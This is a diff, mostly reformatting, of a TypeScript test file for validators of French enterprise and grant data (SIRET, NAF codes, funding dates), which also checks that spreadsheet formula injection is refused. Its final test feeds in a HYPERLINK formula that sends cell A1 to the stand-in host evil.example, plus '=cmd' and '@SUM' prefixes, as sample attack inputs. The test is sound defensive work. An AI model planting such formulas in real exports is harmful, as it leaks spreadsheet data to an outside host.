@@ -6,7 +6,16 @@ const provenance = { source: "Saisie CAN", dataYear: 2024 };
 const fields = (problems: Array<{ field: string }>) => problems.map((p) => p.field);
 
 describe("enterprise", () => {
-  const valid = { name: "Scop Les Ateliers", siret: "73282932000074", legalFamily: "COOPERATIVE", cooperativeKind: "SCOP", nafCode: "88.99B", communeCode: "79191", foundedOn: "2023-04-01", ...provenance } as const;
+  const valid = {
+    name: "Scop Les Ateliers",
+    siret: "73282932000074",
+    legalFamily: "COOPERATIVE",
+    cooperativeKind: "SCOP",
+    nafCode: "88.99B",
+    communeCode: "79191",
+    foundedOn: "2023-04-01",
+    ...provenance,
+  } as const;
   it("accepts a complete enterprise", () => expect(enterpriseProblems(valid, inTerritory)).toEqual([]));
   it("names the SIRET check digit, the NAF code, the commune and the cooperative kind", () => {
     const problems = enterpriseProblems({ ...valid, siret: "73282932000075", nafCode: "88.99", communeCode: "75056", cooperativeKind: null }, inTerritory);
@@ -19,7 +28,8 @@ describe("enterprise", () => {
       "Seule une association a un numéro RNA.",
     ]);
   });
-  it("refuses a cessation before the creation", () => expect(fields(enterpriseProblems({ ...valid, ceasedOn: "2022-01-01" }, inTerritory))).toEqual(["ceasedOn"]));
+  it("refuses a cessation before the creation", () =>
+    expect(fields(enterpriseProblems({ ...valid, ceasedOn: "2022-01-01" }, inTerritory))).toEqual(["ceasedOn"]));
 });
 
 describe("incubation, jobs, funding", () => {
@@ -35,15 +45,20 @@ describe("incubation, jobs, funding", () => {
     expect(fields(jobRecordProblems({ enterpriseId: "e", year: 1999, jobsCreated: -1, fte: "abc", ...provenance }))).toEqual(["year", "jobsCreated", "fte"]);
   });
   it("checks a funding's amount, beneficiary, dates and SCDL fields", () => {
-    const base = { funderId: "f", beneficiaryEnterpriseId: "e", amount: "15000.50", year: 2024, decisionDate: "2024-03-01", instrument: "GRANT", purpose: "Démarrage", ...provenance } as const;
+    const base = {
+      funderId: "f",
+      beneficiaryEnterpriseId: "e",
+      amount: "15000.50",
+      year: 2024,
+      decisionDate: "2024-03-01",
+      instrument: "GRANT",
+      purpose: "Démarrage",
+      ...provenance,
+    } as const;
     expect(fundingProblems(base)).toEqual([]);
-    expect(fields(fundingProblems({ ...base, beneficiaryPartnerId: "p", amount: "0", decisionDate: "2024-02-30", fundingShare: "1.5", raeId: "123456" }))).toEqual([
-      "beneficiaryEnterpriseId",
-      "amount",
-      "decisionDate",
-      "fundingShare",
-      "raeId",
-    ]);
+    expect(
+      fields(fundingProblems({ ...base, beneficiaryPartnerId: "p", amount: "0", decisionDate: "2024-02-30", fundingShare: "1.5", raeId: "123456" })),
+    ).toEqual(["beneficiaryEnterpriseId", "amount", "decisionDate", "fundingShare", "raeId"]);
     expect(fields(grantPublicationProblems({ conventionDate: null, amount: "100", paymentTerms: " ", beneficiarySiret: null, beneficiaryRna: null }))).toEqual([
       "conventionDate",
       "paymentTerms",
@@ -65,11 +80,19 @@ describe("text a spreadsheet would run as a formula", () => {
   } as const;
   it("is refused in every free-text field, with the field named", () => {
     for (const start of ["=", "+", "-", "@", "\t", "\r", " =", "\t="]) {
-      const problems = fundingProblems({ ...grant, purpose: `${start}HYPERLINK("http://evil.example/?x="&A1,"Voir")`, paymentTerms: `${start}1+1`, source: `${start}cmd` });
+      const problems = fundingProblems({
+        ...grant,
+        purpose: `${start}HYPERLINK("http://evil.example/?x="&A1,"Voir")`,
+        paymentTerms: `${start}1+1`,
+        source: `${start}cmd`,
+      });
       expect(fields(problems), JSON.stringify(start)).toEqual(["purpose", "paymentTerms", "source"]);
       expect(problems[0]?.message).toMatch(/formule/);
     }
-    expect(fields(enterpriseProblems({ name: "@SUM(A1)", legalFamily: "ASSOCIATION", nafCode: "88.99B", communeCode: "79191", ...provenance }, inTerritory))).toEqual(["name"]);
+    expect(
+      fields(enterpriseProblems({ name: "@SUM(A1)", legalFamily: "ASSOCIATION", nafCode: "88.99B", communeCode: "79191", ...provenance }, inTerritory)),
+    ).toEqual(["name"]);
   });
-  it("is accepted further in the text", () => expect(fundingProblems({ ...grant, purpose: "Aide = 50 % du besoin, +10 % en 2025", paymentTerms: "unique" })).toEqual([]));
+  it("is accepted further in the text", () =>
+    expect(fundingProblems({ ...grant, purpose: "Aide = 50 % du besoin, +10 % en 2025", paymentTerms: "unique" })).toEqual([]));
 });
